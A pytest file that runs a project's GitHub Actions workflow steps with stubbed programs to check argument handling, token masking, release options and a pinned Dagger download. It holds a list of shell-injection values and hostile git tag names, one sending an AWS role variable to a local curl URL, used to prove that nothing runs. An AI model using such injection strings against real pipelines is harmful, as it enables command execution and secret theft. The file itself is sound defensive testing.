"""The `run` blocks of the workflows, run by bash as GitHub runs them.

`dagger`, `gh`, `curl` and other programs are replaced by scripts that record their arguments.
"""

from __future__ import annotations

import hashlib
import io
import os
import re
import shutil
import subprocess
import tarfile
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml

CHECKOUT = Path(__file__).parents[2]
PROGRAMS = ("curl", "dagger", "gh", "git", "jq", "pip", "uv")
UPSTREAM = "https://github.com/open-telemetry/opentelemetry-lambda"
RELEASE, WATCH, CI = "release-layers.yml", "upstream-watch.yml", "ci.yml"
GITOPS, REAP = "gitops-release.yml", "reap-layers.yml"
NEWEST = "layer-collector/0.19.0"
BRANCH = f"upstream/{NEWEST}"
TOKEN, BEARER = "ey.token", "bearer-of-the-job"
HOSTILE = [
    '"; touch pwned; curl http://127.0.0.1:9/?$AWS_ROLE_TO_ASSUME #',
    "$(touch pwned)",
    "`touch pwned`",
    "'; touch pwned; '",
    "a\ntouch pwned\nb",
    "a && touch pwned || touch pwned",
    "*",
]

Step = tuple[str, str, str]


def run_steps() -> dict[Step, Mapping[str, Any]]:
    """The steps that run a script, by workflow, job and name, with their environment."""
    found: dict[Step, Mapping[str, Any]] = {}
    for workflow in (RELEASE, WATCH, CI, GITOPS, REAP):
        text = (CHECKOUT / ".github" / "workflows" / workflow).read_text(encoding="utf-8")
        parsed: dict[str, Any] = yaml.safe_load(text)
        for name, job in parsed["jobs"].items():
            for step in [each for each in job["steps"] if "run" in each]:
                env = {**parsed.get("env", {}), **job.get("env", {}), **step.get("env", {})}
                found[workflow, name, step["name"]] = {**step, "env": env}
    return found


STEPS = run_steps()
NAMES = sorted({name for step in STEPS.values() for name in step["env"]})


@dataclass
class Job:
    """A job's workspace and files on this machine."""

    folder: Path

    def __post_init__(self) -> None:
        self.workspace.mkdir()
        (self.folder / "bin").mkdir()
        shutil.copytree(CHECKOUT / ".github", self.workspace / ".github")
        for name in PROGRAMS:
            self.have(name)

    @property
    def workspace(self) -> Path:
        return self.folder / "workspace"

    def have(self, program: str, does: str = "") -> None:
        """Make a program that records its arguments in one write, then runs a script."""
        note = f'printf "%s\\0" {program} "$@" END >> "{self.folder}/calls"'
        path = self.folder / "bin" / program
        path.write_text(f"#!/bin/bash\n{note}\n{does}\n")
        path.chmod(0o755)

    def run(self, step: Step, **env: str) -> subprocess.CompletedProcess[str]:
        """Run a step; variables that are not given have their value in the workflow."""
        block = STEPS[step]
        plain = {k: str(v) for k, v in block["env"].items() if "${{" not in str(v)}
        environment = {
            "PATH": os.pathsep.join([str(self.folder / "bin"), os.environ["PATH"]]),
            "HOME": str(self.folder),
            "GITHUB_REPOSITORY": "acme/layers",
            "GITHUB_OUTPUT": str(self.folder / "output"),
            "GITHUB_PATH": str(self.folder / "path"),
            "GITHUB_STEP_SUMMARY": str(self.folder / "summary"),
            "RUNNER_TEMP": str(self.folder),
            "ACTIONS_ID_TOKEN_REQUEST_URL": "https://token.invalid/?v=1",
            "ACTIONS_ID_TOKEN_REQUEST_TOKEN": BEARER,
            "GIT_CONFIG_NOSYSTEM": "1",
            **plain,
            **env,
        }
        return subprocess.run(
            ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", block["run"]],
            cwd=self.workspace,
            env=environment,
            capture_output=True,
            text=True,
            check=False,
            timeout=60,
        )

    def read(self, name: str) -> str:
        """The text that the steps wrote to one of GitHub's files."""
        path = self.folder / name
        return path.read_text() if path.exists() else ""

    def calls(self, *words: str) -> list[list[str]]:
        """The calls of programs, each with the program's name, that begin with these words."""
        calls = [call.split("\0") for call in self.read("calls").split("\0END\0")[:-1]]
        return [call for call in calls if tuple(call[: len(words)]) == words]


@pytest.fixture
def job(tmp_path: Path) -> Job:
    return Job(tmp_path)


def value_of(call: list[str], option: str) -> str:
    return call[call.index(option) + 1]


# --- inputs, variables and secrets are words ---


@pytest.mark.parametrize("value", HOSTILE)
def test_a_value_stays_one_word_of_a_command_and_nothing_of_it_runs(
    tmp_path: Path, value: str
) -> None:
    calls: dict[str, list[list[str]]] = {}
    for given in ("plain", value):
        (tmp_path / str(len(calls))).mkdir()
        job = Job(tmp_path / str(len(calls)))
        job.have("curl", f"echo '{TOKEN}'")
        job.have("jq", "cat")
        for step in STEPS:
            job.run(step, **{name: given for name in NAMES if name in STEPS[step]["env"]})
        # the folder is another each time, and programs of a pipe start at the same time
        calls[given] = sorted(
            [word.replace(str(job.folder), "").replace(value, "plain") for word in call]
            for call in job.calls()
        )
    assert calls[value] == calls["plain"]
    dagger = [call for call in calls[value] if call[:2] == ["dagger", "call"]]
    called = {call[4] if call[2] == "--config" else call[2] for call in dagger}
    releasing = {"config-check", "publish", "fetch", "verify", "github-release"}
    assert called == {"lock", "build", *releasing, "gitops-changed", "gitops-release", "reap"}
    assert list(tmp_path.rglob("pwned")) == []


def test_every_option_has_the_value_that_was_chosen(job: Job) -> None:
    chosen = {**{name: f"<{name}>" for name in NAMES}, "CONFIG": ""}
    for name in ("Lock", "Build"):
        assert job.run((RELEASE, "build", name), **chosen).returncode == 0
    job.have("curl", "echo x")
    job.have("jq", f"cat > /dev/null; echo {TOKEN}")
    assert job.run((RELEASE, "publish", "Publish"), **chosen).returncode == 0
    (build,), (publish,) = (
        job.calls("dagger", "call", "build"),
        job.calls("dagger", "call", "publish"),
    )
    for call in (*job.calls("dagger", "call", "lock"), build):
        assert value_of(call, "--distribution") == "<DISTRIBUTION>"
        assert value_of(call, "--upstream-repo") == "<UPSTREAM_REPO>"
        assert value_of(call, "--upstream-ref") == "<UPSTREAM_REF>"
    assert value_of(build, "--architecture") == "<ARCHITECTURE>"
    assert {option: value_of(publish, option) for option in publish if option.startswith("--")} == {
        "--layers": "dist",
        "--regions": "<REGIONS>",
        "--release-group": "<RELEASE_GROUP>",
        "--layer-name": "<LAYER_NAME>",
        "--bucket": "<BUCKET>",
        "--public": "--share",
        "--share": "<SHARE>",
        "--ssm-prefix": "<SSM_PREFIX>",
        "--dry-run": "--no-bench",
        "--no-bench": "--table",
        "--table": "<DYNAMODB_TABLE_NAME>",
        "--table-region": "<TABLE_REGION>",
        "--role-arn": "<AWS_ROLE_TO_ASSUME>",
        "--oidc-token": "env:OIDC_TOKEN",
        "--path": "published",
    }


def test_a_switch_that_is_off_is_not_named(job: Job) -> None:
    off = dict.fromkeys(NAMES, "")
    job.have("jq", f"cat > /dev/null; echo {TOKEN}")
    job.run((RELEASE, "build", "Build"), **off)
    job.run((RELEASE, "publish", "Publish"), **off)
    job.run((REAP, "plan", "Plan"), **off)
    words = {word for call in job.calls("dagger") for word in call}
    optional = {"--bench", "--no-bench", "--public", "--dry-run", "--bucket", "--table-region"}
    optional |= {"--config", "--share", "--ssm-prefix", "--across-versions"}
    assert words & optional == set()
    assert "--locked" in words


# --- the token for AWS ---


def test_the_token_is_hidden_first_and_in_no_programs_words(job: Job) -> None:
    job.have("curl", 'cat > "$RUNNER_TEMP/headers"; echo x')
    job.have("jq", f"cat > /dev/null; echo {TOKEN}")
    job.have("dagger", 'echo "dagger has $OIDC_TOKEN"')
    for name in ("Publish", "Fetch what AWS serves"):
        done = job.run((RELEASE, "publish", name), **dict.fromkeys(NAMES, "x"))
        assert done.stdout.splitlines() == [f"::add-mask::{TOKEN}", f"dagger has {TOKEN}"]
    assert job.read("headers") == f"Authorization: bearer {BEARER}\n"
    urls = [call[-1] for call in job.calls("curl")]  # a token lives five minutes: one each
    assert urls == ["https://token.invalid/?v=1&audience=sts.amazonaws.com"] * 2
    words = " ".join(word for call in job.calls() for word in call)
    assert TOKEN not in words
    assert BEARER not in words


@pytest.mark.parametrize(("program", "does"), [("curl", "exit 22"), ("jq", "echo null; exit 1")])
def test_without_a_token_nothing_is_published(job: Job, program: str, does: str) -> None:
    job.have(program, does)
    assert job.run((RELEASE, "publish", "Publish"), **dict.fromkeys(NAMES, "x")).returncode != 0
    assert job.calls("dagger") == []


# --- what a release consists of ---


def test_a_release_has_the_files_of_the_other_jobs_and_its_commit(job: Job) -> None:
    step = (RELEASE, "release", "Make the GitHub Release")
    given = {"COMPARE": "true", "CONFIG": "", "SIGNER": "us"}
    done = job.run(step, GITHUB_TOKEN=BEARER, GITHUB_SHA="c0ffee", **given)
    assert done.returncode == 0, done.stderr
    (call,) = job.calls("dagger", "call", "github-release")
    assert BEARER not in " ".join(call)
    assert {option: value_of(call, option) for option in call if option.startswith("--")} == {
        "--layers": "dist",
        "--published": "published/publish.json",
        "--files": "verified",
        "--upstream": "upstream/manifest.json",
        "--signer-workflow": "us",
        "--repository": "acme/layers",
        "--target": "c0ffee",
        "--token": "env:GITHUB_TOKEN",
        "--path": "released",
    }


def test_a_component_is_released_at_its_commit_and_no_secret_is_a_word(job: Job) -> None:
    given = {
        **{name: f"<{name}>" for name in NAMES},
        "CONFIG": "",
        "GITOPS_TOKEN": TOKEN,
        "REGISTRY_PASSWORD": BEARER,
    }
    assert job.run((GITOPS, "changed", "Find the Components"), **given).returncode == 0
    assert job.run((GITOPS, "release", "Release"), **given).returncode == 0
    changed, release = job.calls("dagger", "call")
    assert {option: value_of(changed, option) for option in changed if option.startswith("--")} == {
        "--source": "caller",
        "--base": "<BASE>",
        "--head": "<HEAD>",
        "--repo-url": "<URL>",
        "--revision-branch": "<BRANCH>",
        "--gitops-token": "env:GITOPS_TOKEN",
        "--path": "changed",
    }
    assert {option: value_of(release, option) for option in release if option.startswith("--")} == {
        "--component": "<COMPONENT>",
        "--commit": "<COMMIT>",
        "--source": "caller",
        "--environment": "<ENVIRONMENT>",
        "--gitops-token": "env:GITOPS_TOKEN",
        "--registry-user": "<REGISTRY_USER>",
        "--registry-password": "env:REGISTRY_PASSWORD",
        "--path": "released",
    }
    assert not {TOKEN, BEARER} & {word for call in (changed, release) for word in call}


def test_a_release_without_environment_and_registry_password_names_neither(job: Job) -> None:
    given = dict.fromkeys(NAMES, "") | {"COMPONENT": "shop/web", "COMMIT": "c0ffee"}
    assert job.run((GITOPS, "release", "Release"), **given).returncode == 0
    (call,) = job.calls("dagger", "call", "gitops-release")
    assert not {"--environment", "--registry-user", "--registry-password", "--config"} & set(call)


REAPED = {
    "--pattern": "<PATTERN>",
    "--regions": "<REGIONS>",
    "--older-than": "<OLDER_THAN>",
    "--keep": "<KEEP>",
    "--across-versions": "--release-group",
    "--release-group": "<RELEASE_GROUP>",
    "--layer-name": "<LAYER_NAME>",
    "--ssm-prefix": "<SSM_PREFIX>",
    "--table": "<DYNAMODB_TABLE_NAME>",
    "--table-region": "<TABLE_REGION>",
    "--repository": "acme/layers",
    "--github-token": "env:GITHUB_TOKEN",
    "--oidc-token": "env:OIDC_TOKEN",
    "--path": "reaped",
}


def test_layers_are_deleted_by_the_number_and_digest_that_were_typed(job: Job) -> None:
    chosen = {**{name: f"<{name}>" for name in NAMES}, "CONFIG": "", "GITHUB_TOKEN": BEARER}
    job.have("curl", "echo x")
    job.have("jq", f"cat > /dev/null; echo {TOKEN}")
    for name in ("Plan", "Delete"):
        assert job.run((REAP, name.lower(), name), **chosen).returncode == 0
    plan, delete = (
        {option: value_of(call, option) for option in call if option.startswith("--")}
        for call in job.calls("dagger", "call", "reap")
    )
    assert plan == {**REAPED, "--role-arn": "<AWS_READER_ROLE>"}
    assert delete == {
        **REAPED,
        "--role-arn": "<AWS_REAPER_ROLE>",
        "--apply": "--yes-delete",
        "--yes-delete": "<NUMBER>",
        "--plan": "<DIGEST>",
        "--account": "<ACCOUNT>",
    }
    assert not {TOKEN, BEARER} & {word for call in job.calls("dagger") for word in call}


@pytest.mark.parametrize("code", ["0", "13"])
@pytest.mark.parametrize(
    "step",
    [
        (REAP, "plan", "Fail if no region could be read"),
        (REAP, "delete", "Fail if a deletion failed"),
    ],
)
def test_a_job_ends_as_the_command_in_its_container_did(job: Job, step: Step, code: str) -> None:
    (job.workspace / "reaped").mkdir()
    (job.workspace / "reaped" / "exit-code").write_text(f"{code}\n")
    assert str(job.run(step).returncode) == code


def test_a_job_without_the_commands_exit_code_fails(job: Job) -> None:
    assert job.run((REAP, "delete", "Fail if a deletion failed")).returncode != 0


_SUMMARY = "Add the report to the summary"
REPORTS = {
    (RELEASE, "publish", _SUMMARY): ("published/publish.md", "summary"),
    (RELEASE, "publish", "Set the output"): ("published/publish.outputs", "output"),
    (RELEASE, "release", _SUMMARY): ("released/github-release.md", "summary"),
    (RELEASE, "release", "Set the output"): ("released/github-release.outputs", "output"),
    (GITOPS, "changed", _SUMMARY): ("changed/changed.md", "summary"),
    (GITOPS, "changed", "Set the outputs"): ("changed/changed.outputs", "output"),
    (GITOPS, "release", _SUMMARY): ("released/gitops-release.md", "summary"),
    (REAP, "plan", "Add the plan to the summary"): ("reaped/reap.md", "summary"),
    (REAP, "plan", "Set the outputs"): ("reaped/reap.outputs", "output"),
    (REAP, "delete", _SUMMARY): ("reaped/reap.md", "summary"),
}


@pytest.mark.parametrize(("step", "files"), REPORTS.items())
def test_what_a_command_wrote_in_its_container_reaches_the_job(
    job: Job, step: Step, files: tuple[str, str]
) -> None:
    written, read = files
    path = job.workspace / written
    path.parent.mkdir()
    path.write_text("layers={}\n")
    done = job.run(step)
    assert done.returncode == 0, done.stderr
    assert job.read(read) == "layers={}\n"


def test_a_callers_config_is_used_in_every_call_and_its_lock_is_written(job: Job) -> None:
    called = {**dict.fromkeys(NAMES, "x"), "CONFIG": "caller/my config"}
    job.have("jq", f"cat > /dev/null; echo {TOKEN}")
    dagger = [
        s for s in STEPS if s[0] in (RELEASE, GITOPS, REAP) and "dagger call" in STEPS[s]["run"]
    ]
    for step in dagger:
        assert job.run(step, **called).returncode == 0
    calls = job.calls("dagger", "call")
    assert len(calls) == len(dagger)
    assert {tuple(call[2:4]) for call in calls} == {("--config", "caller/my config")}
    (lock,) = (call for call in calls if call[4] == "lock")
    assert value_of(lock, "--path") == "caller/my config/ocelot.lock"


@pytest.mark.parametrize("architecture", ["amd64", "arm64"])
def test_a_zips_attestation_is_checked_and_one_that_is_bad_fails(
    job: Job, architecture: str
) -> None:
    step = (RELEASE, "verify", f"Check the attestation for {architecture}")
    env = {"LAYERS": "served", "DISTRIBUTION": "mini", "SIGNER": "us"}
    assert job.run(step, **env).returncode == 0
    (call,) = job.calls("gh", "attestation", "verify")
    assert call[3] == f"served/collector-{architecture}-mini.zip"
    assert value_of(call, "--signer-workflow") == "us"
    job.have("gh", "exit 1")
    assert job.run(step, **env).returncode != 0


# --- the search for releases of upstream ---


def git(folder: Path, *arguments: str) -> str:
    who = ("-c", "user.name=ocelot", "-c", "user.email=ocelot@localhost")
    done = subprocess.run(
        ["git", *who, *arguments], cwd=folder, capture_output=True, text=True, check=True
    )
    return done.stdout


def look(job: Job, *tags: str) -> subprocess.CompletedProcess[str]:
    """Look for a release of an upstream that has these tags."""
    upstream = job.folder / "upstream"
    git(job.folder, "init", "--quiet", str(upstream))
    git(upstream, "commit", "--quiet", "--allow-empty", "--message", "Something")
    for tag in tags:
        git(upstream, "tag", tag)
    (job.folder / "bin" / "git").unlink()
    return job.run(
        (WATCH, "lock", "Find the newest release"),
        GIT_CONFIG_COUNT="1",
        GIT_CONFIG_KEY_0=f"url.{upstream}.insteadOf",
        GIT_CONFIG_VALUE_0=UPSTREAM,
    )


@pytest.mark.parametrize(
    "other",
    [
        "layer-collector/0.9.0",
        "layer-collector/0.20.0-rc1",
        "layer-nodejs/0.25.0",
        "layer-collector/1.0.0;touch${IFS}pwned",
        "layer-collector/$(id)",
        "layer-collector/9.9'",
    ],
)
def test_the_newest_release_is_found_and_whether_it_was_proposed(job: Job, other: str) -> None:
    job.have("gh", "echo 1")
    done = look(job, NEWEST, other)
    assert done.returncode == 0, done.stderr
    assert job.read("output").splitlines() == [f"tag={NEWEST}", "proposed=1"]
    (listing,) = job.calls("gh", "pr", "list")
    assert (value_of(listing, "--head"), value_of(listing, "--state")) == (BRANCH, "all")
    assert list(job.folder.rglob("pwned")) == []


def test_an_upstream_without_releases_fails_the_job(job: Job) -> None:
    assert look(job, "layer-nodejs/0.25.0").returncode != 0
    assert job.calls("gh") == []


@pytest.fixture
def checkout(job: Job) -> Path:
    """The job's workspace as a clone of a repository with a lock; git is the real one."""
    (job.folder / "bin" / "git").unlink()
    work = job.workspace
    (work / "config").mkdir()
    (work / "config" / "ocelot.lock").write_text("old\n")
    git(work, "init", "--quiet", "--initial-branch", "main")
    git(work, "add", "--all")
    git(work, "commit", "--quiet", "--message", "All of it")
    git(job.folder, "clone", "--quiet", "--bare", str(work), "origin.git")
    git(work, "remote", "add", "origin", str(job.folder / "origin.git"))
    return work


@pytest.mark.parametrize(("lock", "changed"), [("old", ""), ("new", "true")])
def test_a_lock_that_changed_is_reported(job: Job, checkout: Path, lock: str, changed: str) -> None:
    job.have("dagger", f"echo {lock} > {checkout}/config/ocelot.lock")
    assert job.run((WATCH, "lock", "Lock the release"), TAG=NEWEST).returncode == 0
    assert job.read("output") == f"changed={changed}\n"
    (call,) = job.calls("dagger", "call", "lock")
    assert value_of(call, "--upstream-ref") == NEWEST
    assert "--upgrade" in call


def test_the_lock_alone_is_proposed_whatever_an_earlier_run_left_behind(
    job: Job, checkout: Path
) -> None:
    origin = job.folder / "origin.git"
    git(checkout, "switch", "--quiet", "--create", BRANCH)
    git(checkout, "commit", "--quiet", "--allow-empty", "--message", "Half of it")
    git(checkout, "push", "--quiet", "origin", BRANCH)
    git(checkout, "switch", "--quiet", "main")
    git(checkout, "branch", "--quiet", "-D", BRANCH)
    for name in ("config/ocelot.lock", "else"):
        (checkout / name).write_text("new\n")
    done = job.run((WATCH, "propose", "Open a pull request"), TAG=NEWEST, BASE="main")
    assert done.returncode == 0, done.stderr
    assert git(origin, "diff", "--name-only", "main", BRANCH).split() == ["config/ocelot.lock"]
    assert git(origin, "rev-list", "--count", f"main..{BRANCH}").strip() == "1"
    (made,) = job.calls("gh", "pr", "create")
    options = [value_of(made, each) for each in ("--base", "--head", "--title")]
    assert options == ["main", BRANCH, f"Upstream {NEWEST}"]


# --- installing Dagger ---


@pytest.mark.parametrize("genuine", [True, False])
def test_dagger_is_installed_where_the_archive_has_the_pinned_digest(
    job: Job, *, genuine: bool
) -> None:
    archive = job.folder / "archive"
    with tarfile.open(archive, "w:gz") as tar:
        tar.addfile(tarfile.TarInfo("dagger"), io.BytesIO())
    digest = hashlib.sha256(archive.read_bytes()).hexdigest()
    script = job.workspace / ".github" / "install-dagger"
    if genuine:
        script.write_text(re.sub(r"(?m)^sha256=\w+", f"sha256={digest}", script.read_text()))
    job.have("curl", f'while [ "$1" != -o ]; do shift; done; cp {archive} "$2"')
    done = job.run((RELEASE, "build", "Install Dagger"))
    installed = job.folder / "dagger" / "dagger"
    assert (done.returncode == 0, installed.exists()) == (genuine, genuine)
    assert job.read("path") == (f"{installed.parent}\n" if genuine else "")
